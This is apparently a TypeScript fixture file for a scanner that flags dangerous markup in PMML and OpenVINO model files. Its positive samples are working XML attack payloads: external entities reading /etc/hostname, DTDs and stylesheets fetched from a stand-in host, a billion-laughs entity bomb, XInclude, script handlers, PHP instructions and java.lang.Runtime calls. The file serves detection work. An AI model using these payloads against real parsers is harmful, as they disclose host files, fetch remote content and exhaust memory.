import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Fixture, RoomFixtures } from './fixture.ts'

const xml =
  (content: string): Fixture =>
  () =>
    Buffer.from(`<?xml version="1.0"?>\n${content}`)

const layer = (attributes: string, inner = ''): string =>
  `<net name="own" version="11"><layers><layer id="0" name="one" ${attributes}>${inner}</layer></layers><edges/></net>`

const constant = (data: string): string => layer('type="Const" version="opset1"', `<data ${data}/>`)

/** A network with its weights beside it, as OpenVINO reads them. */
const withWeights =
  (content: string, length: number): Fixture =>
  (directory) => {
    writeFileSync(join(directory, 'own.bin'), new Uint8Array(length))
    const path = join(directory, 'own.xml')
    writeFileSync(path, `<?xml version="1.0"?>\n${content}`)
    return path
  }

const pmml = (inner: string): string =>
  `<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/>${inner}</PMML>`

const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('')}]>`

export const fixtures: RoomFixtures = {
  'markup/external-entity': {
    positive: {
      'a file of the host in PMML': xml(
        `<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>${pmml('<a>&x;</a>')}`,
      ),
      'an address as a parameter': xml(
        '<!DOCTYPE net [<!ENTITY % x SYSTEM "http://203.0.113.7/x.dtd"> %x;]><net name="a" version="11"/>',
      ),
    },
    negative: {
      'an entity that is a text': xml(`<!DOCTYPE PMML [<!ENTITY x "a dash">]>${pmml('<a>&x;</a>')}`),
      'the words in a comment': xml(pmml('<!-- never write <!ENTITY x SYSTEM "file:///etc/hostname"> -->')),
    },
  },
  'markup/external-document-type': {
    positive: {
      'a model with a type of its own': xml(`<!DOCTYPE PMML SYSTEM "http://203.0.113.7/own.dtd">${pmml('')}`),
      'a public one': xml(
        `<!DOCTYPE net PUBLIC "-//OWN//NET" "https://own.example.biz/net.dtd"><net name="a" version="11"/>`,
      ),
    },
    negative: {
      'a page of the W3C': xml(
        '<!DOCTYPE page PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd"><page/>',
      ),
      'a type without address': xml(`<!DOCTYPE PMML>${pmml('')}`),
    },
  },
  'markup/entity-expansion': {
    positive: {
      'CWE-776: billion laughs': xml(`${laughs}<x>&a9;</x>`),
      'an entity of itself': xml('<!DOCTYPE x [<!ENTITY a "b&a;">]><x>&a;</x>'),
    },
    negative: {
      'an entity of two others': xml('<!DOCTYPE x [<!ENTITY a "1"><!ENTITY b "2"><!ENTITY c "&a;&b;">]><x>&c;</x>'),
      'a long text': xml(`<!DOCTYPE x [<!ENTITY a "${'word '.repeat(1000)}">]><x>&a;</x>`),
    },
  },
  'markup/inclusion': {
    positive: {
      'a file of the host': xml(
        '<net name="a" version="11" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></net>',
      ),
      'under another prefix': xml(
        pmml('<o:include xmlns:o="http://www.w3.org/2001/XInclude" href="http://203.0.113.7/"/>'),
      ),
    },
    negative: {
      'an element of that name': xml(pmml('<include href="/etc/hostname"/>')),
      'the namespace alone': xml('<net name="a" version="11" xmlns:xi="http://www.w3.org/2001/XInclude"/>'),
    },
  },
  'markup/active-instruction': {
    positive: {
      'a transformation': xml(`<?xml-stylesheet type="text/xsl" href="http://203.0.113.7/x.xsl"?>${pmml('')}`),
      'a program of the server': xml(`<net name="a" version="11"><?php echo 1; ?></net>`),
    },
    negative: {
      'a style sheet that draws': xml('<?xml-stylesheet type="text/css" href="own.css"?><report/>'),
      'an instruction for an editor': xml(`<?editor fold="1"?>${pmml('')}`),
    },
  },
  'markup/script': {
    positive: {
      'an element in a model': xml(pmml('<Extension><script>alert(1)</script></Extension>')),
      'a handler in a document': xml(
        '<report xmlns="http://www.w3.org/1999/xhtml"><p onclick="alert(1)">x</p></report>',
      ),
      'a transformation in a model': xml(pmml('<x:template xmlns:x="http://www.w3.org/1999/XSL/Transform"/>')),
    },
    negative: {
      'an attribute that begins alike': xml(layer('type="ReLU" version="opset1" once="3"')),
      'the word in a text': xml(pmml('<Annotation>made by a script, onload = 1</Annotation>')),
    },
  },
  'markup/external-schema': {
    positive: {
      'an unusual host': xml(
        '<PMML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://203.0.113.7/pmml.xsd"/>',
      ),
      'a file of the host': xml(
        '<PMML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="../../etc/own.xsd"/>',
      ),
    },
    negative: {
      'the schema of PMML': xml(
        '<PMML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://dmg.org/pmml/v4-4/pmml-4-4.xsd"/>',
      ),
      'a schema beside it': xml(
        '<PMML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="own.xsd"/>',
      ),
    },
  },
  'markup/deep-nesting': {
    positive: {
      'a network': xml(`<net name="a" version="11">${'<a>'.repeat(2000)}${'</a>'.repeat(2000)}</net>`),
      'a model': xml(pmml(`${'<Node>'.repeat(5000)}${'</Node>'.repeat(5000)}`)),
    },
    negative: {
      'a deep tree': xml(pmml(`${'<Node>'.repeat(300)}${'</Node>'.repeat(300)}`)),
      'many elements side by side': xml(pmml('<Node/>'.repeat(5000))),
    },
  },
  'markup/native-library': {
    positive: {
      'a shared library': xml(layer('type="Own" version="extension" library="libown.so"')),
      'a file of data': xml(layer('type="Own" version="opset1"', '<data implementation="C:\\own.dll"/>')),
      'a kernel': xml(
        '<CustomLayer name="Own" type="SimpleGPU" version="1"><Kernel entry="run"><Source filename="own.cl"/></Kernel></CustomLayer>',
      ),
    },
    negative: {
      'an operation': xml(layer('type="ReLU" version="opset1"')),
      'a name that ends alike': xml(layer('type="ReLU" version="opset1" names="also,calculus"')),
    },
  },
  'markup/custom-operation': {
    positive: {
      'of an extension': xml(layer('type="Own" version="extension"')),
      'of a set of its own': xml(layer('type="Own" version="own_opset"')),
    },
    negative: {
      'of a published set': xml(layer('type="Convolution" version="opset1"')),
      'of an older network': xml(layer('type="Convolution" precision="FP32"')),
    },
  },
  'markup/weights-out-of-range': {
    positive: {
      'behind the weights': withWeights(constant('element_type="f32" shape="4" offset="8" size="16"'), 16),
      'a size of another shape': xml(constant('element_type="f32" shape="4, 2" offset="0" size="16"')),
      'a negative offset': xml(constant('element_type="f32" shape="4" offset="-16" size="16"')),
      'beyond 63 bits': xml(
        constant('element_type="u8" shape="18446744073709551615" offset="0" size="18446744073709551615"'),
      ),
    },
    negative: {
      'within the weights': withWeights(constant('element_type="f32" shape="4" offset="0" size="16"'), 16),
      'a scalar': xml(constant('element_type="i64" shape="" offset="0" size="8"')),
    },
  },
  'markup/class-function': {
    positive: {
      'a class of Java': xml(pmml('<Apply function="java.lang.Runtime"><Constant>1</Constant></Apply>')),
      'inside a transformation': xml(
        pmml('<DerivedField name="x"><Apply function="com.own.Function"/></DerivedField>'),
      ),
    },
    negative: {
      'a function of PMML': xml(pmml('<Apply function="uppercase"><FieldRef field="x"/></Apply>')),
      'a function of numbers': xml(pmml('<Apply function="x-erf"/><Apply function="+"/>')),
    },
  },
}
